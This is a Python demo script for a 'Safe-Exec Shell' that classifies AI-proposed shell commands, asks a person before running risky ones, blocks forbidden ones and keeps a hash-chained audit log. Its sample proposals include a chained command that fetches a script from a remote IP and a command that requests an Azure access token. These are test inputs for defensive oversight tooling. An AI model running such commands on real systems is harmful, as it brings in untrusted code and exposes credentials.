"""AI safety demo: a handful of commands an AI might propose, run through the Safe-Exec Shell.

Runs against the local machine with the terminal approval prompt (seed 001 §10's SAFETY SHELL ALERT):
SAFE diagnostics run at once, RISKY commands wait for you ([A]pprove / [D]eny / [M]odify), FORBIDDEN
ones are blocked without asking. Every call lands as one hash-chained record in
``{audit_dir}/shell_audit_{session_id}.jsonl``, verified at the end.

    python examples/ai_safety_demo.py [--audit-dir ./audit/] [--session-id ghost_demo]

With stdin closed (``< /dev/null``) every prompt fails closed as ``user_abandoned``.
"""

from __future__ import annotations

import argparse
import tempfile
from datetime import UTC, datetime
from pathlib import Path

from rich.console import Console

from netghost.governance.wal import verify
from netghost.shell import SafeExecShell, terminal_hitl_callback


def _proposals(scratch: Path) -> list[tuple[str, str]]:
    """(command, the AI's reasoning): what a model investigating a network problem might send."""
    return [
        ("ss -tan", "List TCP sockets to see which connections are established."),
        ("ip addr show", "Check which addresses this host has on each interface."),
        (f"cat {scratch}", "Read the scratch notes the previous step wrote."),
        (f"rm {scratch}", "Clean up the scratch file."),
        ("sudo ss -K dst 10.0.0.5", "Kill the stuck sockets to the cache."),
        ("ss -tan; curl http://203.0.113.9/x.sh", "Check sockets then fetch a helper script."),
        ("az account get-access-token", "Get a token to call the ARM API directly."),
    ]


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--audit-dir", default="./audit/")
    parser.add_argument("--session-id", default=datetime.now(UTC).strftime("ghost_demo_%Y%m%d_%H%M%S"))
    args = parser.parse_args(argv)
    console = Console(highlight=False)
    console.rule(f"AI SAFETY DEMO  |  Session: {args.session_id}", characters="═")

    with tempfile.TemporaryDirectory(prefix="ghost-demo-") as tmp:
        scratch = Path(tmp) / "scratch_notes.txt"
        scratch.write_text("next hop for 10.0.2.0/24 is 10.0.1.5 (decommissioned NVA?)\n")
        with SafeExecShell(
            args.session_id, terminal_hitl_callback, audit_dir=args.audit_dir, timeout_s=15
        ) as shell:
            for command, reasoning in _proposals(scratch):
                console.print(f"\n[bold cyan][Ghost Agent][/bold cyan] {reasoning}")
                res = shell.execute({"command": command, "reasoning": reasoning})
                _report(console, command, res)
            audit_path = shell.audit_path
    report = verify(audit_path)
    console.rule(characters="═")
    status = "[green]chain OK[/green]" if report.ok else f"[red]chain BROKEN: {report.breaks}[/red]"
    console.print(f"  AUDIT: {audit_path}  |  records: {report.records}  |  {status}")
    console.rule(characters="═")
    return 0 if report.ok else 1


def _report(console: Console, command: str, res: dict[str, object]) -> None:
    cls, action, status = res["classification"], res["action"], res["status"]
    if action == "auto_approved":
        console.print(f"[Shell] SAFE — auto-approved: {command}", markup=False)
    elif action == "blocked":
        console.print(f"[Shell] FORBIDDEN — blocked ({res['error']}): {res['risk_reason']}", markup=False)
    else:
        console.print(f"[Shell] {cls} — {action}: {command}", markup=False)
    if res["denial_reason"]:
        console.print(f"        denial reason: {res['denial_reason']}", markup=False)
    output = str(res["output"] or res["stderr"] or "").strip()
    if status != "denied" and output:
        lines = output.splitlines()
        preview = "\n".join(f"        | {line}" for line in lines[:6])
        more = f"\n        | ... ({len(lines) - 6} more lines)" if len(lines) > 6 else ""
        console.print(preview + more, markup=False)
    console.print(
        f"        -> status={status} exit_code={res['exit_code']} audit_id={res['audit_id']}",
        markup=False,
        style="dim",
    )


if __name__ == "__main__":
    raise SystemExit(main())
